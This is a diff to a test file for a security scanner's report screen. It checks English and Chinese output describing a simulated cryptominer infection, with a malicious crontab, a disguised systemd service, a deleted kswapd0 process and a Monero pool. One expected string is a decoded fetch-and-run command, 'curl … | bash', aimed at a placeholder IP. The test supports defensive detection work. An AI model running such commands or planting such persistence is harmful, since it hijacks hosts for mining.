@@ -117,7 +117,7 @@ describe('the screen after a scan', () => {
     const english = renderScan(miningResult, { ...tall, language: 'en' });
     for (const part of [
       'Comes back by (2; 1 unusual, 5 benign entries)',
-      "malicious  user's crontab  /var/spool/cron/crontabs/www-data:3",
+      "malicious  user's crontab  /var/spool/cron/crontabs/www-data:3  → PID 4711",
       'What is run is written in code (1 layer was undone). Fetches something',
       'decoded: curl -fsSL http://192.0.2.80/i.sh | bash',
       'suspicious  systemd service  /etc/systemd/system/dbus-update.service:7',
@@ -125,9 +125,13 @@ describe('the screen after a scan', () => {
       expect(english).toContain(part);
     }
     const chinese = renderScan(miningResult, { ...tall, language: 'zh-CN' });
-    expect(chinese).toContain('恢复点（2 处；另有少见 1 个、正常 5 个启动项）');
+    expect(chinese).toContain('持久化项（2 处；另有少见 1 个、正常 5 个启动项）');
     expect(chinese).toContain('恶意  用户 crontab');
     expect(chinese).toContain('解码后：curl -fsSL');
+    expect(chinese).toContain('/c/kswapd0（已删除）');
+    // Between Chinese sentences there is no blank.
+    expect(chinese).toContain('（已还原 1 层）。从网络');
+    expect(chinese).toContain('rx/0（门罗币） → pool');
     expect(english).not.toContain('/etc/rc.local');
     expect(screen(cleanResult)).not.toContain('Comes back by');
   });
